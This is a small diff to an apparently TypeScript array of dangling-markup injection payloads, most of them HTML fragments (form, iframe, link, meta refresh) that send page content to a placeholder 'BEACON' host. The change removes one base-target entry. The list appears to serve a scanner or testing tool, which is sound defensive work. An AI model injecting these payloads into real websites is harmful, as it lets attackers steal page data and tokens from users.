@@ -78,7 +78,6 @@ const dangling: Vector[] = [
   `<form method=post action="http:BEACON"><button>x</button><select name=x><option>`,
   `<button form=x formaction="http:BEACON"><form id=x method=post>`,
   `<iframe src="http:BEACON" name="`,
-  `<base target="`,
   `<a href="http:BEACON"><base target='`,
   `<link rel=stylesheet href="http:BEACON?`,
   `<meta http-equiv=refresh content="0;url=http:BEACON?`,
